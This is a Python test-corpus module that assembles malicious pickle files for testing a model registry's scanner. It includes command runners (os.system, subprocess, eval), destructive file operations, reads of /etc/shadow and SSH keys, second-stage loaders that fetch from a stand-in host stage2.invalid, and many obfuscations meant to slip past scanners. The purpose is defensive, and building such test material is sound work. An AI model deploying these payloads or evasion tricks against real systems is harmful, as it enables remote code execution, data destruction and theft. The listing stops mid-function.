"""A broad corpus of malicious model files, assembled byte by byte. Nothing here unpickles.

    malicious_corpus() -> list[Sample]     every entry below, and every payload in every wrapper
    payloads() -> list[Sample]             the raw pickles (kind pkl)
    bypasses() -> list[Sample]             files that defeat the registry's scanner today (see BYPASSES)
    as_pairs(samples) -> [(name, bytes)]

Each Sample says how the file is declared (kind) and what the registry must make of it
(expect): QUARANTINED for real attacks through the standard library, NOT_READY where
"review" (a third-party import a person must approve) or "failed" is an acceptable catch.

The payloads only create a file named pwned-by-pickle in the working directory (SHELL, PYTHON
in opcodes.py) or name a host under .invalid, which never resolves.
"""

from __future__ import annotations

import base64
import marshal
import pickle
import struct
import zipfile
import zlib

from tests.corpus import wrappers
from tests.corpus.opcodes import (
    BUILD, DUP, EMPTY_DICT, EMPTY_TUPLE, MARK, MARKER, MEMOIZE, NEWFALSE, NEWOBJ, NEWTRUE, NONE, OBJ, POP, PYTHON,
    REDUCE, SETITEM, SETITEMS, SHELL, STACK_GLOBAL, STOP, TUPLE1, binstring, blob, call, dict_,
    global_, imported, integer, list_, method, pickle_of, proto, short_text, string0, text, tuple_,
)
from tests.corpus.sample import NOT_READY, QUARANTINED, Sample

Q, N = QUARANTINED, NOT_READY
SH = list_(text("sh"), text("-c"), text(SHELL))
HOST = "stage2.invalid"
URL = f"http://{HOST}/payload"


def _g(path: str) -> bytes:
    """global_ from "module:name"."""
    module, name = path.split(":")
    return global_(module, name)


def _stage2(protocol: int = 2) -> bytes:
    """The second stage every loader below would run."""
    return pickle_of(call(global_("os", "system"), text(SHELL)), protocol)


class _Reduce:
    """pickle.dumps(_Reduce(func, *args)) writes func(*args) as pickle itself would."""

    def __init__(self, func, *args):
        self.func, self.args = func, args

    def __reduce__(self):
        return self.func, self.args


def _dumped(func, *args, protocol: int = 2) -> bytes:
    return pickle.dumps(_Reduce(func, *args), protocol=protocol)


# --- the standard library: command runners ------------------------------------------------------

def _runners() -> list[Sample]:
    import os
    import subprocess

    rows = [
        ("os-system", call(_g("os:system"), text(SHELL))),
        ("posix-system", call(_g("posix:system"), text(SHELL))),
        ("nt-system", call(_g("nt:system"), text(SHELL))),
        ("os-popen", call(_g("os:popen"), text(SHELL))),
        ("os-execvp", call(_g("os:execvp"), text("sh"), SH)),
        ("os-execl", call(_g("os:execl"), text("/bin/sh"), text("sh"), text("-c"), text(SHELL))),
        ("os-spawnlp", call(_g("os:spawnlp"), integer(0), text("sh"), text("sh"), text("-c"), text(SHELL))),
        ("os-spawnv", call(_g("os:spawnv"), integer(0), text("/bin/sh"), SH)),
        ("os-posix-spawnp", call(_g("os:posix_spawnp"), text("sh"), SH, EMPTY_DICT)),
        ("os-fork", call(_g("os:fork"))),
        ("os-kill", call(_g("os:kill"), integer(1), integer(9))),
        ("subprocess-popen", call(_g("subprocess:Popen"), SH)),
        ("subprocess-call", call(_g("subprocess:call"), text(SHELL), NEWTRUE)),
        ("subprocess-run", call(_g("subprocess:run"), SH)),
        ("subprocess-check-output", call(_g("subprocess:check_output"), SH)),
        ("subprocess-getoutput", call(_g("subprocess:getoutput"), text(SHELL))),
        ("subprocess-getstatusoutput", call(_g("subprocess:getstatusoutput"), text(SHELL))),
        ("pty-spawn", call(_g("pty:spawn"), SH)),
        ("posixsubprocess-fork-exec", call(_g("_posixsubprocess:fork_exec"), SH, list_(blob(b"/bin/sh")),
                                           NEWTRUE, tuple_(), NONE, NONE, integer(0))),
        ("osx-support-read-output", call(_g("_osx_support:_read_output"), text(SHELL))),
        ("osx-support-find-build-tool", call(_g("_osx_support:_find_build_tool"), text(f"cc; {SHELL}"))),
        ("uuid-get-command-stdout", call(_g("uuid:_get_command_stdout"), text("sh"), text("-c"), text(SHELL))),
        ("platform-popen", call(_g("platform:popen"), text(SHELL))),
        ("platform-syscmd-file", call(_g("platform:_syscmd_file"), text(f"x; {SHELL}"))),
        ("commands-getoutput-py2", call(_g("commands:getoutput"), text(SHELL))),
        ("popen2-popen3-py2", call(_g("popen2:popen3"), text(SHELL))),
        ("winapi-createprocess", call(_g("_winapi:CreateProcess"), NONE, text(f"cmd /c {SHELL}"), NONE, NONE,
                                      NEWFALSE, integer(0), NONE, NONE, NONE)),
        ("multiprocessing-spawnv-passfds", call(_g("multiprocessing.util:spawnv_passfds"), text("/bin/sh"), SH,
                                                tuple_())),
        ("asyncio-create-subprocess-shell", call(_g("asyncio:run"),
                                                 call(_g("asyncio:create_subprocess_shell"), text(SHELL)))),
        ("distutils-spawn", call(_g("distutils.spawn:spawn"), SH)),
        ("ensurepip-run-pip", call(_g("ensurepip:_run_pip"), list_(text("install"), text("evil-package")))),
        ("venv-create-with-pip", call(_g("venv:create"), text(MARKER), NEWFALSE, NEWFALSE, NEWFALSE, NEWTRUE)),
        ("webbrowser-open", call(_g("webbrowser:open"), text(URL))),
        ("pydoc-pipepager", call(_g("pydoc:pipepager"), text("text"), text(SHELL))),
        ("pydoc-tempfilepager", call(_g("pydoc:tempfilepager"), text("text"), text(SHELL))),
        ("atexit-register-system", call(_g("atexit:register"), _g("os:system"), text(SHELL))),
        ("threading-timer-system", method(call(_g("threading:Timer"), integer(0), _g("os:system"),
                                               list_(text(SHELL))), "start")),
        ("ctypes-cdll-system", method(call(_g("ctypes:CDLL"), NONE), "system", blob(SHELL.encode()))),
        ("ctypes-util-find-library", call(_g("ctypes.util:find_library"), text(f"c; {SHELL}"))),
        # Python code runners.
        ("builtins-eval", call(_g("builtins:eval"), text(f"__import__('os').system({SHELL!r})"))),
        ("builtins-exec", call(_g("builtins:exec"), text(PYTHON))),
        ("builtins-compile-exec", call(_g("builtins:exec"), call(_g("builtins:compile"), text(PYTHON), text("<m>"),
                                                                 text("exec")))),
        ("builtins-import-getattr", method(imported("os"), "system", text(SHELL))),
        ("builtins-breakpoint", call(_g("builtins:breakpoint"))),
        ("builtins-input", call(_g("builtins:input"), text("password: "))),
        ("code-interactive-interpreter", method(call(_g("code:InteractiveInterpreter")), "runsource", text(PYTHON))),
        ("code-interact", call(_g("code:interact"))),
        ("codeop-compile-command", call(_g("codeop:compile_command"), text(PYTHON))),
        ("timeit-timeit", call(_g("timeit:timeit"), text(PYTHON), text("pass"), _g("time:perf_counter"),
                               integer(1))),
        ("timeit-timer", method(call(_g("timeit:Timer"), text(PYTHON)), "timeit", integer(1))),
        ("cprofile-run", call(_g("cProfile:run"), text(PYTHON))),
        ("profile-run", call(_g("profile:run"), text(PYTHON))),
        ("pdb-run", call(_g("pdb:run"), text(PYTHON))),
        ("bdb-run", method(call(_g("bdb:Bdb")), "run", text(PYTHON))),
        ("trace-trace-run", method(call(_g("trace:Trace"), integer(0), integer(0)), "run", text(PYTHON))),
        ("doctest-debug-script", call(_g("doctest:debug_script"), text(PYTHON))),
        ("idlelib-run-executive", method(call(_g("idlelib.run:Executive"), NONE), "runcode", text(PYTHON))),
        ("idlelib-pyshell-main", call(_g("idlelib.pyshell:main"))),
        ("lib2to3-main-rewrites-files", call(_g("lib2to3.main:main"), text("lib2to3.fixes"),
                                             list_(text("-w"), text("/srv/app")))),
        ("runpy-run-path", call(_g("runpy:run_path"), text("/tmp/evil.py"))),
        ("runpy-run-module", call(_g("runpy:run_module"), text("evil_module"))),
        ("runpy-run-code", call(_g("runpy:_run_code"), call(_g("builtins:compile"), text(PYTHON), text("<m>"),
                                                            text("exec")), EMPTY_DICT)),
        ("importlib-import-module", call(_g("importlib:import_module"), text("evil_module"))),
        ("importlib-util-spec-from-file", call(_g("importlib.util:spec_from_file_location"), text("evil"),
                                               text("/tmp/evil.py"))),
        ("imp-load-source", call(_g("imp:load_source"), text("evil"), text("/tmp/evil.py"))),
        ("site-addsitedir-pth", call(_g("site:addsitedir"), text("/tmp/evil-site"))),
        ("operator-attrgetter", call(call(call(_g("operator:attrgetter"), text("system")), imported("os")),
                                     text(SHELL))),
        ("operator-methodcaller", call(call(_g("operator:methodcaller"), text("system"), text(SHELL)),
                                       imported("os"))),
        ("operator-call", call(_g("operator:call"), _g("os:system"), text(SHELL))),
        ("functools-partial-system", call(call(_g("functools:partial"), _g("os:system"), text(SHELL)))),
        ("functools-reduce-exec", call(_g("functools:reduce"), _g("builtins:exec"),
                                       list_(text(PYTHON), EMPTY_DICT))),
        ("copyreg-reconstructor-popen", call(_g("copyreg:_reconstructor"), _g("subprocess:Popen"),
                                             _g("subprocess:Popen"), SH)),
        ("copyreg-newobj-popen", call(_g("copyreg:__newobj__"), _g("subprocess:Popen"), SH)),
        ("types-functiontype-marshal", call(call(_g("types:FunctionType"),
                                                 call(_g("marshal:loads"),
                                                      blob(marshal.dumps(compile(PYTHON, "<m>", "exec")))),
                                                 EMPTY_DICT))),
        ("types-codetype", call(_g("types:CodeType"), integer(0), integer(0), integer(0), integer(0), integer(0),
                                integer(0), blob(b"d\x00S\x00"), tuple_(NONE), tuple_(), tuple_(), text("m"),
                                text("m"), text("m"), integer(1), blob(b""), blob(b""), tuple_(), tuple_())),
        ("sys-settrace", call(_g("sys:settrace"), _g("builtins:exec"))),
        ("gc-get-objects", call(_g("gc:get_objects"))),
    ]
    samples = [Sample(f"runner/{name}", pickle_of(body), "pkl", "runner", Q) for name, body in rows]
    # The same, as pickle.dumps writes them (protocols 0, 2, 4 and 5).
    dumped = [
        ("dumps-p0-os-system", _dumped(os.system, SHELL, protocol=0)),
        ("dumps-p1-os-system", _dumped(os.system, SHELL, protocol=1)),
        ("dumps-p2-subprocess-popen", _dumped(subprocess.Popen, ["sh", "-c", SHELL], protocol=2)),
        ("dumps-p3-os-popen", _dumped(os.popen, SHELL, protocol=3)),
        ("dumps-p4-subprocess-check-output", _dumped(subprocess.check_output, ["sh", "-c", SHELL], protocol=4)),
        ("dumps-p5-exec", _dumped(exec, PYTHON, protocol=5)),
        ("dumps-p4-eval", _dumped(eval, f"__import__('os').system({SHELL!r})", protocol=4)),
    ]
    samples += [Sample(f"runner/{name}", data, "pkl", "runner", Q) for name, data in dumped]
    return samples


# --- the standard library: files, network, process state -----------------------------------------

def _touchers() -> list[Sample]:
    rows = [
        ("builtins-open-write", method(call(_g("builtins:open"), text(MARKER), text("w")), "write", text("x"))),
        ("io-open", call(_g("io:open"), text(MARKER), text("w"))),
        ("io-fileio", call(_g("_io:FileIO"), text(MARKER), text("w"))),
        ("pathlib-write-text", call(_g("pathlib:Path.write_text"), call(_g("pathlib:Path"), text(MARKER)),
                                    text("x"))),
        ("os-remove", call(_g("os:remove"), text("/srv/registry/db.sqlite3"))),
        ("os-rename", call(_g("os:rename"), text("/etc/hosts"), text(MARKER))),
        ("os-mkdir", call(_g("os:mkdir"), text(MARKER))),
        ("os-chmod", call(_g("os:chmod"), text("/etc/passwd"), integer(0o777))),
        ("shutil-rmtree", call(_g("shutil:rmtree"), text("/srv/registry"))),
        ("shutil-copyfile", call(_g("shutil:copyfile"), text("/etc/passwd"), text(MARKER))),
        ("shutil-move", call(_g("shutil:move"), text("/srv/registry/settings.py"), text(MARKER))),
        ("tempfile-mkdtemp", call(_g("tempfile:mkdtemp"))),
        ("tempfile-named-temporary-file", call(_g("tempfile:NamedTemporaryFile"), text("w"), integer(-1), NONE,
                                               NONE, text("x"), text("x"), NONE, NEWFALSE)),
        ("logging-filehandler", call(_g("logging:FileHandler"), text(MARKER))),
        ("logging-config-listen", method(call(_g("logging.config:listen"), integer(9999)), "start")),
        ("logging-config-fileconfig", call(_g("logging.config:fileConfig"), text("/tmp/evil.ini"))),
        ("sqlite3-connect", call(_g("sqlite3:connect"), text(MARKER))),
        ("shelve-open", call(_g("shelve:open"), text(MARKER))),
        ("dbm-open", call(_g("dbm:open"), text(MARKER), text("c"))),
        ("zipfile-write", call(_g("zipfile:ZipFile"), text(MARKER), text("w"))),
        ("tarfile-extractall", method(call(_g("tarfile:open"), text("/tmp/evil.tar")), "extractall",
                                      text("/"))),
        ("glob-glob", call(_g("glob:glob"), text("/home/*/.ssh/*"))),
        ("fileinput-input", call(_g("fileinput:input"), text("/etc/shadow"))),
        ("mmap-mmap", call(_g("mmap:mmap"), integer(-1), integer(4096))),
        ("socket-create-connection", call(_g("socket:create_connection"), tuple_(text(HOST), integer(4444)))),
        ("socket-socket", call(_g("socket:socket"))),
        ("urllib-request-urlopen", call(_g("urllib.request:urlopen"), text(URL))),
        ("urllib-request-urlretrieve", call(_g("urllib.request:urlretrieve"), text(URL), text(MARKER))),
        ("http-client-connection", method(call(_g("http.client:HTTPConnection"), text(HOST)), "request",
                                          text("GET"), text("/"))),
        ("http-server", call(_g("http.server:test"))),
        ("smtplib-smtp", call(_g("smtplib:SMTP"), text(HOST))),
        ("ftplib-ftp", call(_g("ftplib:FTP"), text(HOST))),
        ("xmlrpc-serverproxy", call(_g("xmlrpc.client:ServerProxy"), text(URL))),
        ("telnetlib-telnet", call(_g("telnetlib:Telnet"), text(HOST))),
        ("socketserver-tcpserver", call(_g("socketserver:TCPServer"), tuple_(text("0.0.0.0"), integer(4444)),
                                        _g("socketserver:BaseRequestHandler"))),
        ("ssl-get-server-certificate", call(_g("ssl:get_server_certificate"), tuple_(text(HOST), integer(443)))),
        ("signal-alarm", call(_g("signal:alarm"), integer(1))),
        ("sys-exit", call(_g("sys:exit"), integer(0))),
        ("os-environ-setitem", global_("os", "environ") + text("LD_PRELOAD") + text("/tmp/evil.so") + SETITEM),
        ("os-putenv", call(_g("os:putenv"), text("LD_PRELOAD"), text("/tmp/evil.so"))),
        ("resource-setrlimit", call(_g("resource:setrlimit"), integer(6), tuple_(integer(0), integer(0)))),
        ("inspect-getsource", call(_g("inspect:getsource"), _g("registry.settings:SECRET_KEY"))),
        ("antigravity-import", call(_g("builtins:__import__"), text("antigravity"))),
        ("this-module", global_("this", "s")),
        ("unittest-main", call(_g("unittest:main"), text("evil_tests"))),
        ("turtle-screen", call(_g("turtle:Screen"))),
        ("tkinter-tk", call(_g("tkinter:Tk"))),
        ("random-seed-state", call(_g("random:seed"), integer(0))),
        ("threading-thread", method(call(_g("threading:Thread"), NONE, _g("os:system"), NONE,
                                         tuple_(text(SHELL))), "start")),
    ]
    return [Sample(f"stdlib/{name}", pickle_of(body), "pkl", "file-network", Q) for name, body in rows]


# --- third-party loaders and runners ------------------------------------------------------------

def _third_party() -> list[Sample]:
    rows = [
        # (name, body, expect)
        ("numpy-load-allow-pickle", call(_g("numpy:load"), text("/tmp/evil.npy"), NONE, NEWTRUE), Q),
        ("numpy-lib-npyio-load", call(_g("numpy.lib.npyio:load"), text("/tmp/evil.npy"), NONE, NEWTRUE), Q),
        ("numpy-fromfile", call(_g("numpy:fromfile"), text("/etc/passwd")), Q),
        ("numpy-loadtxt", call(_g("numpy:loadtxt"), text("/etc/passwd")), Q),
        ("numpy-testing-runstring", call(_g("numpy.testing._private.utils:runstring"), text(PYTHON),
                                         EMPTY_DICT), Q),
        ("numpy-f2py-compile", call(_g("numpy.f2py:compile"), blob(b"x"), text("evil")), Q),
        ("numpy-ctypeslib-load-library", call(_g("numpy.ctypeslib:load_library"), text("evil"),
                                              text("/tmp")), Q),
        ("numpy-distutils-exec-command", call(_g("numpy.distutils.exec_command:exec_command"), text(SHELL)), Q),
        ("numpy-save", call(_g("numpy:save"), text(MARKER), list_(integer(1))), Q),
        ("numpy-memmap", call(_g("numpy:memmap"), text(MARKER), text("uint8"), text("w+"), integer(0),
                              tuple_(integer(1))), Q),
        ("pandas-read-csv-url", call(_g("pandas:read_csv"), text(URL)), N),
        ("pandas-read-pickle", call(_g("pandas:read_pickle"), text("/tmp/evil.pkl")), Q),
        ("pandas-io-pickle-read-pickle", call(_g("pandas.io.pickle:read_pickle"), text("/tmp/evil.pkl")), Q),
        ("pandas-eval", call(_g("pandas:eval"), text("1 + 1")), Q),
        ("pandas-core-computation-eval", call(_g("pandas.core.computation.eval:eval"), text("1 + 1")), Q),
        ("pandas-read-sql", call(_g("pandas:read_sql"), text("select 1"), text("sqlite:///x")), N),
        ("pandas-to-pickle", call(_g("pandas:to_pickle"), EMPTY_DICT, text(MARKER)), Q),
        ("sklearn-testing-run-python-script", call(
            _g("sklearn.utils._testing:assert_run_python_script_without_output"), text(PYTHON)), N),
        ("sklearn-datasets-fetch-openml", call(_g("sklearn.datasets:fetch_openml"), text("evil")), N),
        ("sklearn-datasets-dump-svmlight", call(_g("sklearn.datasets:dump_svmlight_file"), list_(), list_(),
                                                text(MARKER)), Q),
        ("sklearn-show-versions", call(_g("sklearn.utils._show_versions:show_versions")), N),
        ("torch-load", call(_g("torch:load"), text("/tmp/evil.pt")), Q),
        ("torch-serialization-load", call(_g("torch.serialization:load"), text("/tmp/evil.pt")), Q),
        ("torch-hub-load", call(_g("torch.hub:load"), text("attacker/repo"), text("model")), Q),
        ("torch-jit-load", call(_g("torch.jit:load"), text("/tmp/evil.pt")), Q),
        ("torch-load-from-bytes", call(_g("torch.storage:_load_from_bytes"), blob(_stage2())), Q),
        ("torch-utils-cpp-extension-load-inline", call(_g("torch.utils.cpp_extension:load_inline"),
                                                       text("evil"), text("int x;")), Q),
        ("torch-package-importer", call(_g("torch.package:PackageImporter"), text("/tmp/evil.pt")), Q),
        ("joblib-load", call(_g("joblib:load"), text("/tmp/evil.joblib")), Q),
        ("joblib-numpy-pickle-load", call(_g("joblib.numpy_pickle:load"), text("/tmp/evil.joblib")), Q),
        ("joblib-memory", call(_g("joblib:Memory"), text(MARKER)), N),
        ("joblib-parallel-delayed", call(_g("joblib:delayed"), _g("builtins:print")), Q),
        ("joblib-legacy-ndarraywrapper", call(_g("joblib.numpy_pickle_compat:NDArrayWrapper"),
                                              text("/tmp/evil.npy"), NONE), Q),
        ("dill-loads", call(_g("dill:loads"), blob(_stage2())), Q),
        ("dill-dill-create-function", call(_g("dill._dill:_create_function"), NONE, EMPTY_DICT), Q),
        ("dill-dill-create-code", call(_g("dill._dill:_create_code"), integer(0)), N),
        ("cloudpickle-loads", call(_g("cloudpickle:loads"), blob(_stage2())), Q),
        ("scipy-io-loadmat", call(_g("scipy.io:loadmat"), text("/tmp/evil.mat")), N),
        ("scipy-io-savemat", call(_g("scipy.io:savemat"), text(MARKER), EMPTY_DICT), N),
        ("yaml-load-loader", call(_g("yaml:load"), text(f"!!python/object/apply:os.system [{SHELL!r}]"),
                                  _g("yaml:Loader")), Q),
        ("yaml-unsafe-load", call(_g("yaml:unsafe_load"), text(f"!!python/object/apply:os.system [{SHELL!r}]")), Q),
        ("yaml-full-load", call(_g("yaml:full_load"), text("!!python/name:os.system")), Q),
        ("yaml-unsafe-loader-construct", method(call(_g("yaml:UnsafeLoader"),
                                                     text(f"!!python/object/apply:os.system [{SHELL!r}]")),
                                                "get_single_data"), N),
        ("ipython-system", call(_g("IPython.utils.process:system"), text(SHELL)), Q),
        ("keras-load-model", call(_g("keras.models:load_model"), text("/tmp/evil.keras")), N),
        ("requests-get", call(_g("requests:get"), text(URL)), Q),
        ("pip-main", call(_g("pip:main"), list_(text("install"), text("evil"))), Q),
        ("setuptools-sandbox-run-setup", call(_g("setuptools.sandbox:run_setup"), text("/tmp/setup.py"),
                                              list_()), Q),
        ("pkg-resources-run-script", call(_g("pkg_resources:run_script"), text("evil"), text("evil.py")), N),
        ("celery-send-task", call(_g("celery.execute:send_task"), text("registry.tasks.delete_all")), N),
        ("django-call-command", call(_g("django.core.management:call_command"), text("flush"),
                                     text("--noinput")), N),
        ("unknown-user-class", call(_g("my_company.models:Model"), text("x")), N),
        ("main-user-class-setstate", global_("__main__", "Exploit") + EMPTY_TUPLE + NEWOBJ
         + dict_((text("cmd"), text(SHELL))) + BUILD, N),
    ]
    return [Sample(f"third-party/{name}", pickle_of(body), "pkl", "third-party", expect)
            for name, body, expect in rows]


# --- loaders of second stages -------------------------------------------------------------------

def _loaders() -> list[Sample]:
    stage2 = _stage2()
    b64 = base64.b64encode(stage2).decode()
    latin1 = call(_g("_codecs:encode"), text(stage2.decode("latin-1")), text("latin1"))
    rows = [
        ("pickle-loads-bytes", call(_g("pickle:loads"), blob(stage2)), 3),
        ("pickle-loads-latin1-text", call(_g("pickle:loads"), latin1), 2),
        ("cpickle-loads-py2", call(_g("cPickle:loads"), latin1), 2),
        ("underscore-pickle-loads", call(_g("_pickle:loads"), blob(stage2)), 3),
        ("pickle-py-loads", call(_g("pickle:_loads"), blob(stage2)), 3),
        ("pickle-unpickler-load", method(call(_g("pickle:Unpickler"), call(_g("io:BytesIO"), blob(stage2))),
                                         "load"), 3),
        ("pickle-loads-benign-looking-stage2", call(_g("pickle:loads"), blob(pickle.dumps({"a": 1}, 2))), 3),
        ("pickle-load-file", call(_g("pickle:load"), call(_g("builtins:open"), text("/tmp/stage2.pkl"),
                                                          text("rb"))), 2),
        ("marshal-loads-functiontype", call(call(_g("types:FunctionType"), call(
            _g("marshal:loads"), blob(marshal.dumps(compile(PYTHON, "<m>", "exec")))), EMPTY_DICT)), 3),
        ("base64-b64decode-pickle-loads", call(_g("pickle:loads"), call(_g("base64:b64decode"), text(b64))), 2),
        ("codecs-decode-base64-pickle-loads", call(_g("pickle:loads"), call(_g("codecs:decode"),
                                                                            blob(b64.encode()), text("base64"))), 3),
        ("binascii-a2b-base64-loads", call(_g("pickle:loads"), call(_g("binascii:a2b_base64"), text(b64))), 2),
        ("zlib-decompress-pickle-loads", call(_g("pickle:loads"), call(_g("zlib:decompress"),
                                                                       blob(zlib.compress(stage2)))), 3),
        ("bz2-decompress-pickle-loads", call(_g("pickle:loads"), call(_g("bz2:decompress"),
                                                                      blob(__import__("bz2").compress(stage2)))), 3),
        ("urlopen-read-pickle-loads", call(_g("pickle:loads"), method(call(_g("urllib.request:urlopen"),
                                                                           text(URL)), "read")), 2),
        ("zipimport-load-module", method(call(_g("zipimport:zipimporter"), text("/tmp/evil.zip")), "load_module",
                                         text("evil")), 2),
        ("importlib-machinery-sourcefileloader", method(call(_g("importlib.machinery:SourceFileLoader"),
                                                             text("evil"), text("/tmp/evil.py")), "load_module"), 2),
        ("shelve-open-load", method(call(_g("shelve:open"), text("/tmp/stage2")), "get", text("k")), 2),
        ("copyreg-add-extension-then-ext", call(_g("copyreg:add_extension"), text("os"), text("system"),
                                                integer(240)) + POP + b"\x82\xf0" + tuple_(text(SHELL)) + REDUCE, 2),
    ]
    samples = [Sample(f"loader/{name}", pickle_of(body, protocol), "pkl", "loader", Q)
               for name, body, protocol in rows]
    # Embedded pickles inside embedded pickles, three deep, each level loaded by pickle.loads.
    data = stage2
    for _ in range(3):
        data = pickle_of(call(_g("pickle:loads"), blob(data)), 3)
    samples.append(Sample("loader/nested-pickle-loads-3-deep", data, "pkl", "loader", Q))
    # An innocent-looking outer pickle carrying a malicious pickle as a plain bytes value.
    samples.append(Sample("loader/embedded-stage2-as-data", pickle_of(
        dict_((text("weights"), blob(stage2)), (text("loader"), _g("pickle:loads"))), 3), "pkl", "loader", Q))
    return samples


# --- obfuscations -------------------------------------------------------------------------------

def _obfuscations() -> list[Sample]:
    cmd = text(SHELL)
    rows = [
        ("stack-global-proto4", short_text("os") + short_text("system") + STACK_GLOBAL + tuple_(cmd) + REDUCE, 4),
        ("stack-global-from-memo", short_text("os") + MEMOIZE + short_text("system") + MEMOIZE + POP + POP
         + b"h\x00h\x01" + STACK_GLOBAL + tuple_(cmd) + REDUCE, 4),
        ("stack-global-memo-put-get", short_text("nothing") + b"q\x07" + POP + short_text("posix") + b"q\x07"
         + POP + short_text("system") + b"q\x08" + POP + b"h\x07h\x08" + STACK_GLOBAL + tuple_(cmd) + REDUCE, 4),
        ("stack-global-dup", short_text("os") + DUP + POP + short_text("system") + DUP + POP + STACK_GLOBAL
         + tuple_(cmd) + REDUCE, 4),
        ("stack-global-rot13-call-strings", call(_g("_codecs:encode"), text("bf"), text("rot13"))
         + call(_g("_codecs:encode"), text("flfgrz"), text("rot13")) + STACK_GLOBAL + tuple_(cmd) + REDUCE, 4),
        ("stack-global-str-join", method(text(""), "join", list_(text("o"), text("s"))) + text("system")
         + STACK_GLOBAL + tuple_(cmd) + REDUCE, 4),
        ("stack-global-binstring", binstring(b"os") + binstring(b"system") + STACK_GLOBAL + tuple_(cmd) + REDUCE, 4),
        ("stack-global-long-module-name", text("os" + "." * 0) + text("system") + STACK_GLOBAL
         + tuple_(text("x" * 5000)) + REDUCE, 4),
        ("unicode-escapes-in-text", b"V\\u006f\\u0073\n" + b"V\\u0073ystem\n" + STACK_GLOBAL + tuple_(cmd)
         + REDUCE, 4),
        ("string-escapes-py2-str", b"S'\\x6fs'\n" + b"S'sy\\x73tem'\n" + STACK_GLOBAL + tuple_(cmd) + REDUCE, 4),
        ("inst-protocol0", MARK + string0(SHELL) + b"ios\nsystem\n", 0),
        ("inst-subprocess-protocol0", MARK + list_(string0("sh"), string0("-c"), string0(SHELL))
         + b"isubprocess\nPopen\n", 0),
        ("obj-protocol1", MARK + _g("os:system") + text(SHELL) + OBJ, 2),
        ("newobj-popen", _g("subprocess:Popen") + tuple_(SH) + NEWOBJ, 2),
        ("newobj-ex-popen", _g("subprocess:Popen") + tuple_(SH) + EMPTY_DICT + b"\x92", 4),
        ("ext1-unregistered", b"\x82\x01" + tuple_(cmd) + REDUCE, 2),
        ("ext2-unregistered", b"\x83\x01\x02" + tuple_(cmd) + REDUCE, 2),
        ("ext4-unregistered", b"\x84\x01\x02\x03\x04" + tuple_(cmd) + REDUCE, 2),
        ("build-monkeypatches-class", _g("sklearn.pipeline:Pipeline") + tuple_(
            NONE, dict_((text("predict"), _g("sklearn.utils.extmath:partial")))) + BUILD, 2),
        ("build-monkeypatches-module", _g("sklearn:base") + tuple_(
            NONE, dict_((text("clone"), _g("os:system")))) + BUILD, 2),
        ("setitem-on-global", _g("collections:OrderedDict") + text("k") + text("v") + SETITEM, 2),
        ("setitems-on-os-environ", _g("os:environ") + MARK + text("PYTHONSTARTUP") + text("/tmp/evil.py")
         + SETITEMS, 2),
        ("append-on-sys-path", _g("sys:path") + text("/tmp/evil") + b"a", 2),
        ("reduce-ex-copyreg-reconstructor-popen", call(_g("copy_reg:_reconstructor"), _g("subprocess:Popen"),
                                                       _g("subprocess:Popen"), SH), 2),
        ("setstate-of-dangerous-class", call(_g("copyreg:_reconstructor"), _g("logging:FileHandler"),
                                             _g("builtins:object"), NONE)
         + dict_((text("baseFilename"), text(MARKER))) + BUILD, 2),
        ("call-result-of-call", call(call(_g("builtins:getattr"), imported("os"), text("system")), cmd), 2),
        ("py2-builtin-eval", call(_g("__builtin__:eval"), text(f"__import__('os').system({SHELL!r})")), 2),
        ("py2-builtin-getattr", call(call(_g("__builtin__:getattr"), call(_g("__builtin__:__import__"),
                                                                           text("os")), text("system")), cmd), 2),
        ("py2-builtin-execfile", call(_g("__builtin__:execfile"), text("/tmp/evil.py")), 2),
        ("py2-builtin-file", call(_g("__builtin__:file"), text(MARKER), text("w")), 2),
        ("py2-copy-reg-popen", call(_g("copy_reg:__newobj__"), _g("subprocess:Popen"), SH), 2),
        ("py2-exceptions-module", call(_g("exceptions:Exception"), cmd), 2),
        ("trailing-space-module", call(global_("os ", "system"), cmd), 2),
        ("trailing-space-name", call(global_("os", "system "), cmd), 2),
        ("uppercase-names", call(global_("OS", "SYSTEM"), cmd), 2),
        ("nbsp-in-name", call(global_("os", "system\u00a0"), cmd), 2),
        ("fullwidth-module", call(global_("\uff4f\uff53", "system"), cmd), 2),
        ("zero-width-module", call(global_("o\u200bs", "system"), cmd), 2),
        ("dotted-sklearn-pipeline-os-system", short_text("sklearn.pipeline") + short_text("os.system")
         + STACK_GLOBAL + tuple_(cmd) + REDUCE, 4),
        ("dotted-numpy-ndarray-tofile", short_text("numpy") + short_text("ndarray.tofile") + STACK_GLOBAL
         + tuple_(call(_g("numpy:ndarray"), tuple_(integer(4))), text(MARKER)) + REDUCE, 4),
        ("dotted-builtins-getattr-via-module", short_text("sklearn.base") + short_text("__builtins__.get")
         + STACK_GLOBAL + tuple_(text("eval")) + REDUCE, 4),
        ("dotted-collections-globals", short_text("collections") + short_text("OrderedDict.__init__.__globals__")
         + STACK_GLOBAL, 4),
        ("dotted-numpy-testing-runstring", short_text("numpy") + short_text("testing._private.utils.runstring")
         + STACK_GLOBAL + tuple_(text(PYTHON), EMPTY_DICT) + REDUCE, 4),
        ("dotted-joblib-numpy-pickle-load", short_text("joblib") + short_text("numpy_pickle.load")
         + STACK_GLOBAL + tuple_(text("/tmp/evil.joblib")) + REDUCE, 4),
        ("dotted-torch-serialization-load", short_text("torch") + short_text("serialization.load")
         + STACK_GLOBAL + tuple_(text("/tmp/evil.pt")) + REDUCE, 4),
        ("dotted-sklearn-base-platform-os", short_text("sklearn.base") + short_text("platform.os.system")
         + STACK_GLOBAL + tuple_(cmd) + REDUCE, 4),
        ("dotted-object-subclasses", short_text("builtins") + short_text("object.__subclasses__")
         + STACK_GLOBAL + EMPTY_TUPLE + REDUCE, 4),
        ("numpy-ufunc-reconstruct-import-gadget", call(_g("numpy.core:_ufunc_reconstruct"), text("os"),
                                                       text("system")) + tuple_(cmd) + REDUCE, 2),
        ("defaultdict-factory-is-call-result", call(_g("collections:defaultdict"),
                                                    call(_g("builtins:getattr"), imported("os"),
                                                         text("system"))), 2),
        ("payload-hidden-in-dict-of-weights", dict_((text("coef_"), list_(integer(1), integer(2))),
                                                    (text("intercept_"), call(_g("os:system"), cmd))), 2),
        ("payload-after-benign-pickle", b"", 2),  # filled below
        ("frame-wrapped-payload", b"", 4),  # filled below
    ]
    samples = []
    for name, body, protocol in rows:
        if name == "payload-after-benign-pickle":
            data = pickle.dumps({"coef_": [1.0, 2.0]}, protocol=2) + _stage2()
        elif name == "frame-wrapped-payload":
            inner = call(_g("os:system"), cmd) + STOP
            data = proto(4) + b"\x95" + struct.pack("<Q", len(inner)) + inner
        else:
            data = pickle_of(body, protocol)
